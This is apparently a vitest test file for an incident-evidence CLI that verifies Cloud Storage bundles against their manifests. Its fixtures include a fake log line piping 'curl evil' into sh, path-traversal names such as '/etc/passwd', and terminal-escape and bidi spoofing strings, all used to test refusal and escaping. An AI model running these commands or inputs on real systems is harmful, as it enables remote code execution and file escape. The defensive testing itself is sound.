// `riposte evidence list|get` through the whole command: the incident's capture outcome read from the
// run's real Firestore emulator, its bundle from the Cloud Storage stand-in through the real client —
// written as the capture service writes it, then tampered with, cut short, and made hostile.
import { createHash, randomBytes } from "node:crypto";
import { existsSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { Storage } from "@google-cloud/storage";
import { createLedger, createLedgerFirestore, type Ledger } from "@riposte/ledger";
// inject("firestoreEmulatorHost"): declared by service-kit's testing module.
import type {} from "@riposte/service-kit/testing";
import { type StorageStandin, startStorageStandin, storageClientOptionsFor } from "@riposte/standins";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it, vi } from "vitest";
import { cliEnvSchema } from "./config.js";
import { bundleTarget } from "./evidence-bundle.js";
import { storageLocation } from "./evidence-storage.js";
import { EVIDENCE_JSON_VERSION } from "./evidence-view.js";
import { main } from "./main.js";
import { devStatePath } from "./pubsub-target.js";

const projectId = `evidence-cli-${randomBytes(4).toString("hex")}`;
const firestore = createLedgerFirestore({ projectId, emulatorHost: inject("firestoreEmulatorHost") });
const ledger: Ledger = createLedger({ firestore, timeoutMs: 30_000 });
const BUCKET = "riposte-evidence";
let standin: StorageStandin;
let storage: Storage;

const key = () => randomBytes(16).toString("hex");
const sha256 = (data: string | Buffer) => createHash("sha256").update(data).digest("hex");
const prefixOf = (incident: string, pod = "web-1") => `prod/shop/${pod}/${incident}/`;

interface BundleOptions {
  pod?: string;
  /** Manifest fields overriding the honest ones. */
  manifest?: Record<string, unknown>;
  /** Objects listed in the manifest but never written. */
  unwritten?: string[];
  /** Stored instead of what the manifest describes. */
  replaced?: Record<string, string>;
  missing?: { name: string; reason: string }[];
  /** Write no manifest.json (capture still running, or it died). */
  noManifest?: boolean;
}

const CONTENTS: Record<string, string> = {
  "pod.json": JSON.stringify({ kind: "Pod", metadata: { name: "web-1" } }),
  "events.json": "[]",
  "logs/web.log": "GET / 200\nsh -c 'curl evil | sh'\n",
};

/** Writes a bundle as capture does (each object with its SHA-256 metadata, manifest.json last) and its outcome. */
async function writeBundle(incident: string, options: BundleOptions = {}): Promise<string> {
  const pod = options.pod ?? "web-1";
  const prefix = prefixOf(incident, pod);
  const bucket = storage.bucket(BUCKET);
  for (const [name, data] of Object.entries(CONTENTS)) {
    if (options.unwritten?.includes(name)) continue;
    const stored = options.replaced?.[name] ?? data;
    await bucket.file(`${prefix}${name}`).save(stored, {
      resumable: false,
      metadata: { metadata: { sha256: sha256(stored) } },
    });
  }
  const manifest = {
    v: 1,
    incident,
    cluster: "prod",
    namespace: "shop",
    pod,
    podUid: "6f1f4c1e-2b1a-4f7e-9d0c-1a2b3c4d5e6f",
    node: "gke-prod-node-1",
    capturedAt: "2026-12-06T06:00:00.000Z",
    captureId: "3b241101-e2bb-4255-8caf-4136c566a962",
    objects: Object.entries(CONTENTS).map(([name, data]) => ({
      name,
      size: Buffer.byteLength(data),
      sha256: sha256(data),
      contentType: name.endsWith(".json") ? "application/json" : "text/plain",
    })),
    missing: options.missing ?? [{ name: "logs/web.previous.log", reason: "no previous instance" }],
    ...options.manifest,
  };
  if (!options.noManifest)
    await bucket.file(`${prefix}manifest.json`).save(JSON.stringify(manifest, null, 2), { resumable: false });
  await ledger.recordActionOutcome(incident, "capture", {
    service: "capture",
    result: "done",
    reason: "bundle written",
    location: `gs://${BUCKET}/${prefix}`,
  });
  return prefix;
}

let printed: string[] = [];
let errors: string[] = [];

async function riposte(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  printed = [];
  errors = [];
  const code = await main(["evidence", ...args]);
  return { code, out: printed.join("\n"), err: errors.join("\n") };
}

// C0 (line breaks included: every printed line is one of ours), DEL, C1, line separators, bidi.
const RAW_CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
  /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

let out: string;

beforeAll(async () => {
  await ledger.warmUp();
  standin = await startStorageStandin();
  standin.seedBucket(BUCKET);
  storage = new Storage(storageClientOptionsFor(standin));
  vi.stubEnv("FIRESTORE_EMULATOR_HOST", inject("firestoreEmulatorHost"));
  vi.stubEnv("GOOGLE_CLOUD_PROJECT", projectId);
  vi.stubEnv("STORAGE_EMULATOR_HOST", standin.url);
  vi.spyOn(console, "log").mockImplementation((...line: unknown[]) => void printed.push(line.join(" ")));
  vi.spyOn(console, "error").mockImplementation((...line: unknown[]) => void errors.push(line.join(" ")));
}, 60_000);
afterAll(async () => {
  vi.unstubAllEnvs();
  vi.restoreAllMocks();
  await standin.close();
  await firestore.terminate();
});
beforeEach(async () => {
  out = await mkdtemp(join(tmpdir(), "riposte-evidence-"));
});
afterEach(async () => {
  await rm(out, { recursive: true, force: true });
  // A usage error's text spans lines of our own: each of its lines is checked.
  for (const line of [...printed, ...errors].flatMap((entry) => entry.split("\n")))
    expect(line, JSON.stringify(line)).not.toMatch(RAW_CONTROL);
});

describe("riposte evidence list", { timeout: 60_000 }, () => {
  it("a complete bundle: each object with its size and SHA-256, stored as the manifest says, and what is missing", async () => {
    const incident = key();
    const prefix = await writeBundle(incident);
    const { code, out: text, err } = await riposte("list", incident);
    expect(err).toBe("");
    expect(code).toBe(0);
    expect(text).toContain(`gs://${BUCKET}/${prefix}`);
    expect(text).toContain(
      "cluster prod · pod shop/web-1 (uid 6f1f4c1e-2b1a-4f7e-9d0c-1a2b3c4d5e6f) · node gke-prod-node-1",
    );
    for (const [name, data] of Object.entries(CONTENTS))
      expect(text).toMatch(new RegExp(`${name}\\s+${Buffer.byteLength(data)}\\s+${sha256(data)}\\s+stored`));
    expect(text).toMatch(/missing\s+logs\/web\.previous\.log: no previous instance/);
  });

  it("--json: the documented, versioned shape, every key present", async () => {
    const incident = key();
    const prefix = await writeBundle(incident);
    const { code, out: text } = await riposte("list", incident, "--json");
    expect(code).toBe(0);
    expect(JSON.parse(text)).toEqual({
      version: EVIDENCE_JSON_VERSION,
      incident,
      location: `gs://${BUCKET}/${prefix}`,
      complete: true,
      manifest: {
        cluster: "prod",
        namespace: "shop",
        pod: "web-1",
        podUid: "6f1f4c1e-2b1a-4f7e-9d0c-1a2b3c4d5e6f",
        node: "gke-prod-node-1",
        capturedAt: "2026-12-06T06:00:00.000Z",
      },
      objects: Object.entries(CONTENTS).map(([name, data]) => ({
        name,
        size: Buffer.byteLength(data),
        sha256: sha256(data),
        contentType: name.endsWith(".json") ? "application/json" : "text/plain",
        stored: { size: Buffer.byteLength(data), sha256: sha256(data) },
      })),
      missing: [{ name: "logs/web.previous.log", reason: "no previous instance" }],
      listed: true,
      unlisted: [],
      problems: [],
    });
  });

  it("an object the manifest lists but the bucket lacks, or stored with another size or hash: exit 1 naming each", async () => {
    const incident = key();
    await writeBundle(incident, {
      unwritten: ["events.json"],
      replaced: { "logs/web.log": "nothing to see" },
    });
    const { code, out: text } = await riposte("list", incident);
    expect(code).toBe(1);
    expect(text).toMatch(/events\.json\s.*ABSENT/);
    expect(text).toMatch(/logs\/web\.log\s.*DIFFERS: stored 14 bytes, sha256 [0-9a-f]{64}/);
    expect(text).toMatch(/pod\.json\s.*stored$/m);
  });

  it("no manifest yet: 'bundle incomplete', listing what is stored under the prefix; exit 1", async () => {
    const incident = key();
    await writeBundle(incident, { noManifest: true });
    const { code, out: text, err } = await riposte("list", incident);
    expect(code).toBe(1);
    expect(err).toContain("bundle incomplete: no manifest yet");
    expect(text.split("\n").filter((line) => line.startsWith("  "))).toEqual([
      expect.stringMatching(/^ {2}events\.json\s+2$/),
      expect.stringMatching(/^ {2}logs\/web\.log\s+\d+$/),
      expect.stringMatching(/^ {2}pod\.json\s+\d+$/),
    ]);
    const json = JSON.parse((await riposte("list", incident, "--json")).out);
    expect(json).toMatchObject({ complete: false, manifest: null, objects: [], listed: true });
    expect(json.unlisted).toEqual(["events.json", "logs/web.log", "pod.json"]);
  });

  it("no manifest and the bucket may not be listed: still 'bundle incomplete', saying the listing was refused", async () => {
    const incident = key();
    await writeBundle(incident, { noManifest: true });
    standin.faults.inject({ on: "object.list", status: 403, message: "caller lacks storage.objects.list" });
    const { code, err } = await riposte("list", incident);
    expect(code).toBe(1);
    expect(err).toContain("bundle incomplete: no manifest yet");
    expect(err).toContain("cannot list");
  });

  it("no capture recorded, or one that failed: its result and reason, escaped; exit 1", async () => {
    const none = key();
    await ledger.recordActionOutcome(none, "kill-pod", {
      service: "pod-killer",
      result: "done",
      reason: "x",
    });
    const missing = await riposte("list", none);
    expect(missing.code).toBe(1);
    expect(missing.err).toContain(`no capture recorded for incident ${none}`);

    const failed = key();
    const reason = "kubelet said \u001b[2J\u001b]0;pwned\u0007\n\u202eFAKE: captured ok\u2066";
    await ledger.recordActionOutcome(failed, "capture", { service: "capture", result: "failed", reason });
    const shown = await riposte("list", failed);
    expect(shown.code).toBe(1);
    expect(shown.err).toContain(
      "capture FAILED: kubelet said \\u001b[2J\\u001b]0;pwned\\u0007\\u000a\\u202eFAKE: captured ok\\u2066",
    );
    expect(shown.err).toContain("no evidence location recorded");

    const unknown = await riposte("list", "f".repeat(32));
    expect(unknown.code).toBe(1);
    expect(unknown.err).toContain(`no incident ${"f".repeat(32)} in the ledger`);
  });

  it("manifest reasons with control and bidi characters are shown escaped; --json carries them exactly", async () => {
    const incident = key();
    const reason = "container gone\r\u001b[31m\u202e\u2028ok\u009b";
    await writeBundle(incident, { missing: [{ name: "logs/web\u001b[2J.previous.log", reason }] });
    const { code, out: text } = await riposte("list", incident);
    expect(code).toBe(0);
    expect(text).toContain(
      "logs/web\\u001b[2J.previous.log: container gone\\u000d\\u001b[31m\\u202e\\u2028ok\\u009b",
    );
    const json = await riposte("list", incident, "--json");
    expect(JSON.parse(json.out).missing).toEqual([{ name: "logs/web\u001b[2J.previous.log", reason }]);
  });

  it("a hostile KEY is refused before any read (exit 2)", async () => {
    for (const hostile of ["../../etc", `${"a".repeat(31)}/`, "A".repeat(32), "", "\u001b[2J"]) {
      standin.clearRequests();
      const { code, err } = await riposte("list", hostile);
      expect(code, hostile).toBe(2);
      expect(err).toContain("expected an incident key");
      expect(standin.requests).toEqual([]);
    }
  });

  it("a recorded location that is not this incident's bundle prefix is refused, naming it escaped", async () => {
    const incident = key();
    for (const location of [
      `gs://${BUCKET}/prod/shop/../../kube-system/x/${incident}/`,
      `gs://${BUCKET}/prod/shop/web-1/${key()}/`,
      `gs://${BUCKET}/prod/shop/web-1/${incident}`,
      `https://evil.example/prod/shop/web-1/${incident}/`,
      `gs://${BUCKET}/prod/shop/web\u001b[2J/${incident}/`,
    ]) {
      await ledger.recordActionOutcome(incident, "capture", {
        service: "capture",
        result: "done",
        reason: "ok",
        location,
      });
      standin.clearRequests();
      const { code, err } = await riposte("list", incident);
      expect(code, location).toBe(1);
      expect(err).toContain("not an evidence bundle location of this incident");
      expect(standin.requests).toEqual([]);
    }
  });

  it("a manifest naming another pod or incident than its location, or not a manifest at all: exit 1", async () => {
    const other = key();
    await writeBundle(other, { manifest: { pod: "web-2" } });
    const wrongPod = await riposte("list", other);
    expect(wrongPod.code).toBe(1);
    expect(wrongPod.err).toContain('manifest says pod "web-2", its location pod "web-1"');

    const broken = key();
    await writeBundle(broken, {
      manifest: {
        objects: [{ name: "../../escape", size: 1, sha256: "a".repeat(64), contentType: "text/plain" }],
      },
    });
    const refused = await riposte("list", broken);
    expect(refused.code).toBe(1);
    expect(refused.err).toContain(
      "manifest.json is not an evidence manifest: objects[0].name: not an evidence object name",
    );
  });
});

describe("riposte evidence: a replaced manifest.json far larger than any manifest", {
  timeout: 60_000,
}, () => {
  it("is refused once past 4 MiB, not read whole into memory", async () => {
    const incident = key();
    const prefix = await writeBundle(incident);
    standin.seedObject(BUCKET, `${prefix}manifest.json`, Buffer.alloc(6 * 1024 * 1024, 0x20));
    const { code, err } = await riposte("list", incident);
    expect(code).toBe(1);
    expect(err).toContain("manifest.json is larger than 4194304 bytes");
  });
});

describe("riposte evidence get", { timeout: 60_000 }, () => {
  it("downloads every object and manifest.json under DIR, keeping their names, each verified", async () => {
    const incident = key();
    const prefix = await writeBundle(incident);
    const { code, out: text, err } = await riposte("get", incident, "--out", out);
    expect(err).toBe("");
    expect(code).toBe(0);
    for (const [name, data] of Object.entries(CONTENTS))
      expect(await readFile(join(out, name), "utf8")).toBe(data);
    const manifest = standin.object(BUCKET, `${prefix}manifest.json`)?.data;
    expect(await readFile(join(out, "manifest.json"))).toEqual(manifest);
    expect(text).toContain(`4 objects verified (size and SHA-256) into ${out}`);
    expect(text).toContain("missing  logs/web.previous.log: no previous instance");
  });

  it("a tampered object (hash mismatch): exit 1 naming it, the bad bytes not left under its name", async () => {
    const incident = key();
    await writeBundle(incident, { replaced: { "logs/web.log": "GET / 200\nsh -c 'curl good | sh'\n" } });
    const { code, err } = await riposte("get", incident, "--out", out);
    expect(code).toBe(1);
    expect(err).toMatch(/logs\/web\.log: SHA-256 [0-9a-f]{64}, the manifest says [0-9a-f]{64}/);
    expect(err).toContain("1 of 3 objects failed verification");
    expect(existsSync(join(out, "logs/web.log"))).toBe(false);
    expect(await readFile(join(out, "pod.json"), "utf8")).toBe(CONTENTS["pod.json"]);
  });

  it("an object of another size, and one the bucket lacks: exit 1 naming each", async () => {
    const incident = key();
    await writeBundle(incident, { unwritten: ["pod.json"], replaced: { "events.json": "[{}]" } });
    const { code, err } = await riposte("get", incident, "--out", out);
    expect(code).toBe(1);
    expect(err).toContain("pod.json: not in the bucket");
    expect(err).toContain("events.json: more than the manifest's 2 bytes");
    expect(err).toContain("2 of 3 objects failed verification");
  });

  it("stored bytes changed behind the client's back (its own hash check fails): exit 1 naming the object", async () => {
    const incident = key();
    const prefix = await writeBundle(incident);
    const stored = standin.object(BUCKET, `${prefix}events.json`);
    if (!stored) throw new Error("not stored");
    stored.data[0] = (stored.data[0] ?? 0) ^ 1;
    const { code, err } = await riposte("get", incident, "--out", out);
    expect(code).toBe(1);
    expect(err).toContain("events.json: ");
    expect(existsSync(join(out, "events.json"))).toBe(false);
  });

  it("no manifest yet: exit 1, nothing downloaded", async () => {
    const incident = key();
    await writeBundle(incident, { noManifest: true });
    const { code, err } = await riposte("get", incident, "--out", out);
    expect(code).toBe(1);
    expect(err).toContain("bundle incomplete: no manifest yet");
    expect(await readdir(out)).toEqual([]);
  });

  it("a manifest with a climbing object name: exit 1, nothing written anywhere", async () => {
    const incident = key();
    const inside = join(out, "a", "b");
    await mkdir(inside, { recursive: true });
    const climbing = { name: "../../escape.txt", size: 1, sha256: sha256("x"), contentType: "text/plain" };
    await writeBundle(incident, { manifest: { objects: [climbing] } });
    await storage
      .bucket(BUCKET)
      .file(`${prefixOf(incident)}../../escape.txt`)
      .save("x", { resumable: false });
    const { code, err } = await riposte("get", incident, "--out", inside);
    expect(code).toBe(1);
    expect(err).toContain("not an evidence manifest: objects[0].name");
    expect(existsSync(join(out, "escape.txt"))).toBe(false);
    expect(await readdir(inside)).toEqual([]);
  });

  it("refuses a DIR already holding a file of the same name unless --force; --force replaces it", async () => {
    const incident = key();
    await writeBundle(incident);
    await writeFile(join(out, "pod.json"), "mine");
    const refused = await riposte("get", incident, "--out", out);
    expect(refused.code).toBe(1);
    expect(refused.err).toContain("pod.json already exists");
    expect(refused.err).toContain("--force");
    expect(await readFile(join(out, "pod.json"), "utf8")).toBe("mine");
    expect(existsSync(join(out, "events.json"))).toBe(false);

    const forced = await riposte("get", incident, "--out", out, "--force");
    expect(forced.code).toBe(0);
    expect(await readFile(join(out, "pod.json"), "utf8")).toBe(CONTENTS["pod.json"]);
  });

  it("--out is required; a hostile KEY is refused (exit 2)", async () => {
    expect((await riposte("get", key())).code).toBe(2);
    expect((await riposte("get", "../x", "--out", out)).code).toBe(2);
  });
});

describe("bundleTarget: never a path outside DIR", () => {
  it.each(["../escape", "logs/../../escape", "/etc/passwd", "a/../../b", "..", ""])(
    "refuses %j",
    async (name) => {
      await expect(bundleTarget(out, name)).rejects.toThrow(/outside/);
    },
  );

  it("refuses a name reaching through a symlink inside DIR to a directory outside it", async () => {
    const elsewhere = await mkdtemp(join(tmpdir(), "riposte-evidence-elsewhere-"));
    try {
      await symlink(elsewhere, join(out, "logs"));
      await expect(bundleTarget(out, "logs/web.log")).rejects.toThrow(/outside/);
    } finally {
      await rm(elsewhere, { recursive: true, force: true });
    }
  });

  it("gives the resolved path of a name inside DIR, creating its directories", async () => {
    expect(await bundleTarget(out, "logs/web.log")).toMatch(/logs\/web\.log$/);
    expect(existsSync(join(out, "logs"))).toBe(true);
  });
});

describe("where the evidence commands find Cloud Storage", { timeout: 60_000 }, () => {
  // A project no `riposte dev` runs for: no dev state file is found.
  const base = { GOOGLE_CLOUD_PROJECT: "nobody-runs-this", PUBSUB_EMULATOR_HOST: "127.0.0.1:1" };
  const where = (env: Record<string, string>, project?: string) =>
    storageLocation(cliEnvSchema.parse({ ...base, ...env }), project);

  it("an emulator named in the environment wins (host:port taken as http); otherwise Cloud Storage with ADC", () => {
    expect(where({ STORAGE_EMULATOR_HOST: "http://127.0.0.1:4443" }).apiEndpoint).toBe(
      "http://127.0.0.1:4443",
    );
    expect(where({ STORAGE_EMULATOR_HOST: "127.0.0.1:4443" }, "acme").apiEndpoint).toBe(
      "http://127.0.0.1:4443",
    );
    expect(where({})).toEqual({ describe: "Cloud Storage, Application Default Credentials" });
    expect(where({}, "acme-prod").apiEndpoint).toBeUndefined();
  });

  it("the storage stand-in and Firestore emulator a running riposte dev recorded, as `riposte incidents` finds the ledger", async () => {
    const incident = key();
    await writeBundle(incident);
    const devEnv = {
      PUBSUB_EMULATOR_HOST: "127.0.0.1:2",
      GOOGLE_CLOUD_PROJECT: `evidence-dev-${process.pid}`,
    };
    const path = devStatePath(cliEnvSchema.parse(devEnv));
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(
      path,
      JSON.stringify({
        emulatorHost: devEnv.PUBSUB_EMULATOR_HOST,
        projectId,
        services: [],
        firestoreEmulatorHost: inject("firestoreEmulatorHost"),
        storageEndpoint: standin.url,
        evidenceBucket: BUCKET,
        pid: process.pid,
      }),
    );
    vi.stubEnv("PUBSUB_EMULATOR_HOST", devEnv.PUBSUB_EMULATOR_HOST);
    vi.stubEnv("GOOGLE_CLOUD_PROJECT", devEnv.GOOGLE_CLOUD_PROJECT);
    vi.stubEnv("FIRESTORE_EMULATOR_HOST", undefined);
    vi.stubEnv("STORAGE_EMULATOR_HOST", undefined);
    try {
      const { code, out: text, err } = await riposte("list", incident);
      expect(err).toBe("");
      expect(code).toBe(0);
      expect(text).toContain(`the storage stand-in of npm start, ${standin.url}`);
    } finally {
      rmSync(path, { force: true });
      vi.stubEnv("PUBSUB_EMULATOR_HOST", undefined);
      vi.stubEnv("FIRESTORE_EMULATOR_HOST", inject("firestoreEmulatorHost"));
      vi.stubEnv("GOOGLE_CLOUD_PROJECT", projectId);
      vi.stubEnv("STORAGE_EMULATOR_HOST", standin.url);
    }
  });
});
